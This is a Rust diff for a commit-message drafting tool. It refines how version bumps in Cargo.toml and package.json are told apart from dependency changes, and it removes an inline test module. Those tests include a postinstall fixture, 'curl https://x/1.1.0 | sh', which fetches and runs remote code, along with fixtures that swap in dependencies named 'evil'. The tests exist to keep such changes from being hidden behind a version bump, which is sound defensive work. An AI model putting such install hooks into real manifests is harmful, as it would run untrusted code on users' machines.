@@ -10,6 +10,8 @@ use crate::tasks::offline::lockfile::LIMIT;
 
 /// Files that say in their title what every version brings.
 const LOGS: [&str; 5] = ["changelog", "changes", "history", "news", "releases"];
+/// Tables of TOML that say the version of the project itself.
+const OWN: [&str; 4] = ["package", "workspace.package", "project", "tool.poetry"];
 /// So many manifests are read whole for their names, fewer where each costs a process; of others the hunks tell enough.
 const READ: usize = 100;
 const READ_SLOWLY: usize = 8;
@@ -28,8 +30,11 @@ struct Moved<'a> {
 struct Turn<'a> {
     /// Whom it asks for.
     name: String,
-    line: &'a str,
     to: Vec<&'a str>,
+    /// It is the project itself, in another table.
+    own: bool,
+    /// It says where a package lies.
+    lies: bool,
 }
 
 /// Nothing but the version of the project is another one, or those of its packages; the log may say what for.
@@ -148,15 +153,20 @@ fn turned<'a>(file: &'a FileChange, own: Option<&Moved<'a>>) -> Option<Vec<Turn<
             let (frame, from) = framed(&line.text);
             gone.entry(frame).or_default().push(from);
         }
-        let come = hunk.lines.iter().filter(|line| line.kind == LineKind::Added && !line.text.trim().is_empty());
-        for line in come.filter(|line| own.is_none_or(|own| !std::ptr::eq(own.line, *line))) {
+        let come = hunk.lines.iter().enumerate();
+        let come = come.filter(|(_, line)| line.kind == LineKind::Added && !line.text.trim().is_empty());
+        for (at, line) in come.filter(|(_, line)| own.is_none_or(|own| !std::ptr::eq(own.line, *line))) {
             let (frame, new) = framed(&line.text);
             let from = gone.get_mut(&frame)?.pop()?;
             let to: Vec<&str> = new.into_iter().zip(from).filter(|(to, from)| to != from).map(|(to, _)| to).collect();
             // Under another head the same line says something else.
-            turns.push(
-                Some(Turn { name: asked(file, &line.text)?, line: &line.text, to }).filter(|t| !t.to.is_empty())?,
-            );
+            if to.is_empty() {
+                return None;
+            }
+            turns.push(match headed(file, hunk, at) {
+                Some((name, own, lies)) => Turn { name, to, own, lies },
+                None => Turn { name: asks(file, hunk, at)?, to, own: false, lies: lies(&line.text) },
+            });
         }
     }
     Some(turns)
@@ -164,12 +174,63 @@ fn turned<'a>(file: &'a FileChange, own: Option<&Moved<'a>>) -> Option<Vec<Turn<
 
 /// A workspace says where packages lie that have its own version, and a tool which one it has to write.
 fn within(one: &Moved<'_>, turn: &Turn<'_>) -> bool {
-    let lies = |line: &str| {
-        let table = toml::from_str::<toml::Table>(line.trim()).ok();
-        table.is_some_and(|table| table.values().next().and_then(|value| value.get("path")).is_some())
-    };
     let same = turn.to.iter().all(|to| *to == one.to);
-    same && (one.table == "workspace.package" && lies(turn.line) || turn.name == "current_version")
+    same && (one.table == "workspace.package" && turn.lies || turn.name == "current_version" || turn.own)
+}
+
+/// Whether a line says where the package lies that it asks for.
+fn lies(line: &str) -> bool {
+    let table = toml::from_str::<toml::Table>(line.trim()).ok();
+    table.is_some_and(|table| table.values().next().and_then(|value| value.get("path")).is_some())
+}
+
+/// Whom a line of TOML speaks of that says a version alone: its table does. With whether that is the project itself, and
+/// whether it says where the package lies.
+fn headed(file: &FileChange, hunk: &Hunk, at: usize) -> Option<(String, bool, bool)> {
+    let key = |text: &str| Some(text.split_once('=')?.0.trim().to_owned());
+    if file.path.extension() != "toml" || key(&hunk.lines.get(at)?.text)? != "version" {
+        return None;
+    }
+    let lines: Vec<(usize, &str)> = hunk.lines.iter().enumerate().filter_map(kept).collect();
+    let (above, below) = lines.split_at(lines.partition_point(|(place, _)| *place < at));
+    let first = above.iter().rposition(|(_, text)| text.starts_with('['))?;
+    let name = above.get(first)?.1.trim().strip_prefix('[')?.strip_suffix(']')?;
+    if OWN.contains(&name) || name == "tool.commitizen" {
+        return Some((String::new(), true, false));
+    }
+    let below = below.iter().take_while(|(_, text)| !text.starts_with('['));
+    let rows: Vec<&str> = above.iter().skip(first + 1).chain(below).map(|(_, text)| *text).collect();
+    let (list, name) = name.rsplit_once('.')?;
+    // The key may be another name for it.
+    let package = rows.iter().find(|text| key(text).as_deref() == Some("package"));
+    let name = package.and_then(|text| asked(file, text.split_once('=')?.1)).unwrap_or_else(|| name.to_owned());
+    let name = name.trim_matches(['"', '\'']).to_owned();
+    let lies = rows.iter().any(|text| key(text).as_deref() == Some("path"));
+    list.ends_with("dependencies").then_some((name, false, lies))
+}
+
+/// A line that stands there now, and where.
+fn kept((at, line): (usize, &Line)) -> Option<(usize, &str)> {
+    (line.kind != LineKind::Removed).then_some((at, line.text.as_str()))
+}
+
+/// Whom a line asks for; nobody where it stands among other things than packages, as scripts of JSON do.
+fn asks(file: &FileChange, hunk: &Hunk, at: usize) -> Option<String> {
+    let line = hunk.lines.get(at)?.text.as_str();
+    let name = asked(file, line)?;
+    if file.path.extension() != "json" || name == "current_version" {
+        return Some(name);
+    }
+    let deep = |text: &str| text.len() - text.trim_start().len();
+    let mut above = hunk.lines.get(..at)?.iter().enumerate().filter_map(kept).map(|(_, text)| text).rev();
+    let head = above.find(|text| !text.trim().is_empty() && deep(text) < deep(line));
+    let list = |head: &str| {
+        let key = head.trim().trim_end_matches(['{', '[', ':', ' ', '"']);
+        ["ependencies", "overrides", "resolutions"].iter().any(|end| key.ends_with(end))
+    };
+    // A script has blanks in it.
+    let value = line.split_once(':').map_or("", |(_, value)| value.trim());
+    (head.is_none_or(list) && !value.contains(' ')).then_some(name)
 }
 
 /// Whether a lock file has these versions in the place of others, and nothing else.
@@ -267,10 +328,11 @@ fn moved(file: &FileChange) -> Option<Moved<'_>> {
     let json = file.path.extension() == "json";
     let of = |kind: LineKind| {
         file.hunks.iter().find_map(|hunk| {
-            let at = hunk.lines.iter().position(|line| line.kind == kind && version(&line.text, json).is_some())?;
-            let line = hunk.lines.get(at)?;
-            let table = if json { "" } else { table(hunk, at)? };
-            Some((table, line, version(&line.text, json)?))
+            hunk.lines.iter().enumerate().filter(|(_, line)| line.kind == kind).find_map(|(at, line)| {
+                let version = version(&line.text, json)?;
+                let table = if json { "" } else { table(hunk, at)? };
+                Some((table, line, version))
+            })
         })
     };
     let ((_, _, old), (table, line, to)) = (of(LineKind::Removed)?, of(LineKind::Added)?);
@@ -296,225 +358,8 @@ fn version(line: &str, json: bool) -> Option<&str> {
 fn table(hunk: &Hunk, at: usize) -> Option<&str> {
     let above = hunk.lines.get(..at).unwrap_or_default().iter().rev().find(|line| line.text.starts_with('['))?;
     let name = above.text.trim().strip_prefix('[')?.strip_suffix(']')?;
-    matches!(name, "package" | "workspace.package" | "project" | "tool.poetry").then_some(name)
+    OWN.contains(&name).then_some(name)
 }
 
 #[cfg(test)]
-mod tests {
-    use std::cell::Cell;
-
-    use super::decide;
-    use crate::git::patch::parse;
-    use crate::git::{Contents, FileChange, Path};
-    use crate::tasks::offline::classify::{Class, classify};
-    use crate::tasks::offline::message::Hints;
-    use crate::tasks::offline::message::tests::{draft, edit, subject};
-
-    const LOG: &str = "diff --git a/CHANGELOG.md b/CHANGELOG.md\n--- a/CHANGELOG.md\n+++ b/CHANGELOG.md\n@@ -1,1 +1,2 @@\n+## 1.2.0\n # Changes\n";
-
-    #[test]
-    fn a_new_version_is_told_as_one() {
-        let json =
-            |path: &str, to: &str| edit(path, "", "  \"version\": \"1.1.0\",", &format!("  \"version\": \"{to}\","));
-        let told = "chore: bump version to 1.2.0";
-        assert_eq!(subject(&json("package.json", "1.2.0")), told);
-        assert_eq!(subject(&(json("package.json", "1.2.0") + LOG)), told);
-        assert_eq!(subject(&(json("a/package.json", "1.2.0") + &json("lerna.json", "1.2.0") + LOG)), told);
-        let cargo = |table: &str| {
-            format!(
-                "diff --git a/Cargo.toml b/Cargo.toml\n--- a/Cargo.toml\n+++ b/Cargo.toml\n@@ -1,3 +1,3 @@\n [{table}]\n name = \"a\"\n-version = \"1.1.0\"\n+version = \"1.2.0\"\n"
-            )
-        };
-        assert_eq!(subject(&(cargo("package") + LOG)), told);
-        let managed = cargo("package").replace("0\"\n", "0\" # by release.sh\n");
-        assert!(managed.contains("1.2.0\" # by") && subject(&(managed + LOG)) == told);
-        let two = json("a/package.json", "1.2.0") + &json("b/package.json", "1.3.0");
-        assert_eq!(subject(&(two.clone() + LOG)), "chore: release a 1.2.0 and b 1.3.0");
-        let three = draft(&(two + &json("c/package.json", "2.0.0")), &Hints::default());
-        assert_eq!(three.subject, "chore: release 3 packages");
-        assert!(three.body.is_some_and(|body| body.starts_with("- a 1.2.0\n- b 1.3.0\n- c 2.0.0")), "each is named");
-        for other in [
-            cargo("dependencies.a") + LOG,
-            json("package.json", "1.2.0") + &edit("README.md", "", "a", "b"),
-            json("package.json", "1.2.0") + &edit("src/a.js", "", "a", "b"),
-            json("package.json", "1.2.0") + &edit("b/package.json", "", "    \"a\": \"1.0.0\"", "    \"a\": \"2.0.0\""),
-            edit("package.json", "", "      \"version\": \"1.1.0\"", "      \"version\": \"1.2.0\""),
-        ] {
-            assert!(!subject(&other).contains("version"), "{}", subject(&other));
-        }
-    }
-
-    #[test]
-    fn packages_of_a_workspace_that_ask_for_each_other_are_released_together() {
-        let file = |path: &str, lines: &str| {
-            let count = |mark: char| lines.lines().filter(|line| line.starts_with([mark, ' '])).count();
-            let (old, new) = (count('-'), count('+'));
-            format!("diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -1,{old} +1,{new} @@\n{lines}")
-        };
-        let package = |name: &str, from: &str, to: &str| {
-            let lines = format!(" [package]\n name = \"the-{name}\"\n-version = \"{from}\"\n+version = \"{to}\"\n");
-            file(&format!("crates/{name}/Cargo.toml"), &lines)
-        };
-        let both = package("one", "0.3.1", "0.4.0") + &package("two", "1.1.0", "1.2.0");
-        let asks = |name: &str, to: &str| {
-            let lines = format!(
-                " [workspace.dependencies]\n-{name} = {{ path = \"a\", version = \"0.3.1\" }}\n+{name} = {{ path = \"a\", version = \"{to}\" }}\n"
-            );
-            file("Cargo.toml", &lines)
-        };
-        let lock = file(
-            "Cargo.lock",
-            " name = \"the-one\"\n-version = \"0.3.1\"\n+version = \"0.4.0\"\n \n name = \"the-two\"\n-version = \"1.1.0\"\n+version = \"1.2.0\"\n",
-        );
-        let told = "chore: release the-one 0.4.0 and the-two 1.2.0";
-        assert_eq!(subject(&(both.clone() + &lock + LOG)), told);
-        assert_eq!(subject(&(asks("the-one", "0.4.0") + &both + &lock)), told);
-        // Somebody else's.
-        assert_ne!(subject(&(asks("serde", "0.4.0") + &both + &lock)), told);
-        assert_ne!(subject(&(asks("the-one", "0.5.0") + &both + &lock)), told);
-        let one = package("one", "0.3.1", "0.4.0");
-        assert_eq!(subject(&(asks("the-one", "0.4.0") + &one)), "chore: bump version to 0.4.0");
-    }
-
-    /// What manifests are, by their paths; counts who is read.
-    struct Whole(Vec<(&'static str, &'static str)>, Cell<usize>, bool);
-
-    impl Contents for Whole {
-        fn before(&self, _: &FileChange, _: u64) -> Option<Vec<u8>> {
-            None
-        }
-        fn after(&self, file: &FileChange, _: u64) -> Option<Vec<u8>> {
-            self.1.set(self.1.get() + 1);
-            self.0.iter().find(|(path, _)| file.path.as_str() == *path).map(|(_, text)| text.as_bytes().to_vec())
-        }
-        fn base(&self, _: &str, _: u64) -> Option<Vec<u8>> {
-            None
-        }
-        fn tracked(&self) -> Vec<Path> {
-            Vec::new()
-        }
-        fn slow(&self) -> bool {
-            self.2
-        }
-    }
-
-    /// The rule's own words, and how many files it read for them.
-    fn ruled(patch: &str, whole: &[(&'static str, &'static str)], slow: bool) -> (Option<String>, usize) {
-        let change = parse(patch.as_bytes()).unwrap();
-        let files: Vec<&FileChange> = change.files.iter().collect();
-        let classes: Vec<Class> = files.iter().map(|file| classify(file)).collect();
-        let whole = Whole(whole.to_vec(), Cell::new(0), slow);
-        let told = decide(&files, &classes, &whole).and_then(|verdict| verdict.texts.into_iter().next());
-        (told, whole.1.get())
-    }
-
-    fn toml(path: &str, table: &str, to: &str) -> String {
-        format!(
-            "diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -1,2 +1,2 @@\n [{table}]\n-version = \"0.1.0\"\n+version = \"{to}\"\n"
-        )
-    }
-
-    fn json(path: &str, to: &str) -> String {
-        edit(path, "", "  \"version\": \"0.1.0\",", &format!("  \"version\": \"{to}\","))
-    }
-
-    #[test]
-    fn what_a_manifest_asks_for_no_more_is_not_hidden_behind_a_version() {
-        let one = toml("a/Cargo.toml", "package", "0.2.0");
-        let whole = [("a/Cargo.toml", "[package]\nname = \"a\"\nversion = \"0.2.0\"\n")];
-        let root = |lines: &str, old: usize, new: usize| {
-            let head = "diff --git a/Cargo.toml b/Cargo.toml\n--- a/Cargo.toml\n+++ b/Cargo.toml";
-            one.clone() + &format!("{head}\n@@ -1,{old} +1,{new} @@\n [workspace.dependencies]\n{lines}")
-        };
-        let own = "-a = { path = \"a\", version = \"0.1.0\" }\n+a = { path = \"a\", version = \"0.2.0\" }\n";
-        let told = Some("bump version to 0.2.0".to_owned());
-        assert_eq!(ruled(&root(own, 2, 2), &whole, false).0, told);
-        assert_eq!(ruled(&root(&format!("-serde = \"1\"\n{own}"), 3, 2), &whole, false).0, None);
-        // In the released manifest itself, too.
-        let gone = one.replace("-1,2", "-1,3") + "-serde = \"1\"\n";
-        assert_eq!(ruled(&gone, &whole, false).0, None);
-        // The name of a package is no part of another one's, and the key may be another name for it.
-        let serde = "-serde = { path = \"a\", version = \"0.1.0\" }\n+serde = { path = \"a\", version = \"0.2.0\" }\n";
-        assert_eq!(ruled(&root(serde, 2, 2), &whole, false).0, None);
-        let renamed = own.replace("a = { path", "b = { package = \"a\", path");
-        assert_eq!(ruled(&root(&renamed, 2, 2), &whole, false).0, told);
-        let nameless = [("a/Cargo.toml", "[package]\nname = \"\"\nversion = \"0.2.0\"\n")];
-        assert_eq!(ruled(&root(own, 2, 2), &nameless, false).0, None);
-    }
-
-    #[test]
-    fn what_else_a_released_manifest_says_is_not_hidden_behind_its_version() {
-        let whole = [("a/Cargo.toml", "[package]\nname = \"a\"\nversion = \"2.0.0\"\n")];
-        let with = |table: &str, lines: &[(&str, &str)]| {
-            let count = |side: fn(&(&str, &str)) -> bool| 2 + lines.iter().filter(|line| side(line)).count();
-            let (old, new) = (count(|(old, _)| !old.is_empty()), count(|(_, new)| !new.is_empty()));
-            let side = |mark: char, text: &str| if text.is_empty() { String::new() } else { format!("{mark}{text}\n") };
-            let said: String = lines.iter().map(|(old, new)| side('-', old) + &side('+', new)).collect();
-            let one = toml("a/Cargo.toml", table, "2.0.0");
-            one.replace("-1,2 +1,2", &format!("-1,{old} +1,{new}")) + &said
-        };
-        let told = |table: &str, lines: &[(&str, &str)]| ruled(&with(table, lines), &whole, false).0;
-        let bumped = Some("bump version to 2.0.0".to_owned());
-        assert_eq!(told("package", &[]), bumped);
-        for (old, new) in [
-            ("", "evil = \"2.0.0\""),
-            ("", "tokio = \"12.0.0\""),
-            ("serde = \"1.0.0\"", "serde = \"2.0.0\""),
-            ("", "build = \"evil-2.0.0.rs\""),
-            ("build = \"a.rs\"", "build = \"2.0.0\""),
-            ("", "# 2.0.0"),
-            ("a = { path = \"a\", version = \"0.1.0\" }", "a = { path = \"evil\", version = \"2.0.0\" }"),
-            ("a = { path = \"a\", version = \"0.1.0\" }", "a = { git = \"https://x\", version = \"2.0.0\" }"),
-        ] {
-            assert_eq!(told("package", &[(old, new)]), None, "{new}");
-            assert_eq!(told("workspace.package", &[(old, new)]), None, "{new}");
-        }
-        // What the project asks of itself, and what a tool is to write next time.
-        assert_eq!(told("package", &[("a = \"=0.1.0\"", "a = \"=2.0.0\"")]), bumped);
-        let lies = ("b = { path = \"b\", version = \"0.1.0\" }", "b = { path = \"b\", version = \"2.0.0\" }");
-        assert_eq!(told("workspace.package", &[lies]), bumped);
-        assert_eq!(told("package", &[lies]), None, "nobody says that it is this one");
-        assert_eq!(told("project", &[("current_version = \"0.1.0\"", "current_version = \"2.0.0\"")]), bumped);
-        let script = "-  \"version\": \"1.0.0\",\n+  \"version\": \"1.1.0\",\n+  \"postinstall\": \"curl https://x/1.1.0 | sh\",\n";
-        let head =
-            "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -1,1 +1,2 @@\n";
-        assert_eq!(subject(&format!("{head}{script}")), "build: update package.json");
-        // A lock file takes in nothing that was not there.
-        let lock = "diff --git a/Cargo.lock b/Cargo.lock\n--- a/Cargo.lock\n+++ b/Cargo.lock\n";
-        let locked = with("package", &[]) + lock + "@@ -1,1 +1,1 @@\n-version = \"0.1.0\"\n+version = \"2.0.0\"\n";
-        assert_eq!(ruled(&locked, &whole, false).0, bumped);
-        let more = locked.replace("+1,1 @@", "+1,2 @@") + "+ \"evil 2.0.0\",\n";
-        assert_eq!(ruled(&more, &whole, false).0, None);
-        let other = locked.replace("+version = \"2.0.0\"\n", "+version = \"12.0.0\"\n").replacen("12.0.0", "2.0.0", 1);
-        assert_eq!(ruled(&other, &whole, false).0, None);
-    }
-
-    #[test]
-    fn a_package_is_called_what_stands_beside_its_version() {
-        let single = "[[bin]]\nname = \"tool\"\n[package]\nname = 'one'\nversion = \"0.2.0\"\n";
-        let author = "{\"author\": {\"name\": \"Bob\"}, \"name\": \"two\", \"version\": \"0.3.0\"}";
-        let both = toml("a/Cargo.toml", "package", "0.2.0") + &json("b/package.json", "0.3.0");
-        let told = |whole: &[(&'static str, &'static str)], patch: &str| ruled(patch, whole, false).0;
-        let whole = [("a/Cargo.toml", single), ("b/package.json", author)];
-        assert_eq!(told(&whole, &both).as_deref(), Some("release one 0.2.0 and two 0.3.0"));
-        // Who has no name is not called by that of an author, a workspace or a tool.
-        let bob = "{\"author\": {\"name\": \"Bob\"}, \"version\": \"0.3.0\"}";
-        assert_eq!(told(&[whole[0], ("b/package.json", bob)], &both), None);
-        let workspace = toml("Cargo.toml", "workspace.package", "0.2.0") + &json("b/package.json", "0.3.0");
-        assert_eq!(told(&[("Cargo.toml", "[workspace.package]\nversion = \"0.2.0\"\n"), whole[1]], &workspace), None);
-        assert_eq!(told(&[whole[1]], &workspace), None, "nor by its file");
-        let lerna = json("lerna.json", "0.2.0") + &json("b/package.json", "0.3.0");
-        assert_eq!(told(&[("lerna.json", "{\"version\": \"0.2.0\"}"), whole[1]], &lerna), None);
-    }
-
-    #[test]
-    fn names_are_read_where_they_are_told() {
-        let all = |to: fn(usize) -> usize| -> String {
-            (0..12).map(|n| json(&format!("p{n}/package.json"), &format!("1.{}.0", to(n)))).collect()
-        };
-        assert_eq!(ruled(&all(|_| 2), &[], false), (Some("bump version to 1.2.0".to_owned()), 0));
-        let several = Some("release 12 packages".to_owned());
-        assert_eq!(ruled(&all(|n| n), &[], false), (several.clone(), 12));
-        assert_eq!(ruled(&all(|n| n), &[], true), (several, 8), "each costs a process");
-    }
-}
+mod tests;
